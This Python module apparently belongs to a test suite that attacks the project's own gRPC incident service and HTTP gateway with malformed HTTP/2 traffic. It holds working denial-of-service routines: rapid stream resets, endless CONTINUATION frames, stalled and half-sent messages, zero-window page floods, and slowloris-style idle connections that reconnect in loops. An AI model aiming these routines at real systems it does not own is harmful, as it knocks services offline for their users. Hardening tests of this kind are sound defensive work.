"""Attacks by HTTP/2 frames that no gRPC client sends."""

import asyncio
import contextlib
from collections.abc import Awaitable, Callable

from awoooi.incident.v1 import incident_service_pb2 as pb
from hostile.attacks.calls import for_seconds
from hostile.http2 import (
    CONTINUATION,
    HEADERS,
    RawConnection,
    call_headers,
    field,
    frame,
    raw_connection,
)
from hostile.target import GET, HEALTH_WATCH, LARGE_SEVERITY, LIST, Target

_ONE_SECOND = 1.0
# About what sending a group takes at full speed.
_FRAME_SECONDS = 0.001
_RESETS = 4
_GET = pb.GetRequest(incident_id="INC-20260507-99ADF2").SerializeToString()


async def without_requests(target: Target) -> str:
    """Calls whose request never comes, and health watches that stay: 2,050 over nine connections."""
    per_connection = 228

    async def attack(connection: RawConnection) -> None:
        for number in range(target.number(per_connection)):
            if number % 2:
                connection.call(GET, None)
            else:
                connection.call(HEALTH_WATCH, b"")
        await connection.closed()

    return await _connections(target, 9, attack)


async def unread_pages(target: Target) -> str:
    """Calls of a large page, none of which is read: 200 over four connections with a window of 0."""
    message = pb.ListRequest(page_size=1000, severities=[LARGE_SEVERITY]).SerializeToString()

    async def attack(connection: RawConnection) -> None:
        for _ in range(target.number(50)):
            connection.call(LIST, message)
        await connection.closed()

    return await _connections(target, 4, attack, window=0)


async def rapid_resets(target: Target) -> str:
    """Calls that are cancelled as soon as they have begun."""
    calls = 0

    async def attack(connection: RawConnection) -> None:
        nonlocal calls
        closed = asyncio.ensure_future(connection.closed())
        while not closed.done():
            for _ in range(_RESETS):
                connection.reset(connection.call(GET, _GET))
                calls += 1
            await connection.drain()
            await _pause(target)

    closed = await _connections(target, 4, attack)
    return f"{closed}, {calls} calls"


async def _pause(target: Target) -> None:
    """Wait between two frames, or groups of them: at full scale not at all, else for a rate of the scale."""
    await asyncio.sleep(0 if target.scale >= 1 else _FRAME_SECONDS / target.scale)


async def continuations(target: Target) -> str:
    """Headers that never end: one CONTINUATION frame after the other."""
    part = frame(CONTINUATION, 0, 1, field("a", "b" * 120) * 100)

    async def attack(connection: RawConnection) -> None:
        closed = asyncio.ensure_future(connection.closed())
        connection.answers = False
        connection.send(frame(HEADERS, 0, 1, call_headers(GET)))
        while not closed.done():
            connection.send(part)
            await connection.drain()
            await _pause(target)

    return await _connections(target, 4, attack)


async def half_messages(target: Target) -> str:
    """Messages of nearly 1 MiB whose last byte never comes: 250 on each of four connections."""
    size = 1 << 20
    half = b"\0" + size.to_bytes(4) + b"x" * (size - 1)

    async def attack(connection: RawConnection) -> None:
        closed = asyncio.ensure_future(connection.closed())
        streams = [connection.call(GET, None) for _ in range(target.number(250))]
        sending = [asyncio.ensure_future(connection.send_data(stream, half)) for stream in streams]
        await closed
        for each in sending:
            each.cancel()

    return await _connections(target, 4, attack)


async def silent_grpc(target: Target) -> str:
    """Connections that say nothing: 1,100 of them."""
    return await _silent(target, target.incident, target.number(1_100), b"")


async def silent_http(target: Target) -> str:
    """Connections to the gateway that send nothing, or half a header: 1,000 of them."""
    return await _silent(target, target.gateway, target.number(1_000), b"GET /metrics HTTP/1.1\r\nHo")


async def _connections(
    target: Target, number: int, attack: Callable[[RawConnection], Awaitable[None]], *, window: int = 65_535
) -> str:
    """Keep so many attacking connections: one that the server closes is made again. Returns how many it closed."""
    closed = 0

    async def attack_repeatedly() -> None:
        nonlocal closed
        while True:
            with contextlib.suppress(OSError):
                async with raw_connection(target.incident, window=window) as connection:
                    await attack(connection)
            closed += 1
            # Without a pause the reconnecting alone would be the load.
            await asyncio.sleep(0.05)

    await for_seconds(target.seconds, [attack_repeatedly() for _ in range(number)])
    return f"{closed} connections closed"


async def _silent(target: Target, address: str, number: int, half: bytes) -> str:
    host, _, port = address.rpartition(":")
    closed = 0

    async def hold(which: int) -> None:
        nonlocal closed
        while True:
            try:
                reader, writer = await asyncio.open_connection(host, int(port))
                if which % 2:
                    writer.write(half)
                with contextlib.suppress(OSError):
                    while await reader.read(1 << 16):
                        pass
                writer.transport.abort()
            except OSError:
                pass
            closed += 1
            await asyncio.sleep(_ONE_SECOND)

    await for_seconds(target.seconds, [hold(which) for which in range(number)])
    return f"{number} connections, {closed} closed"
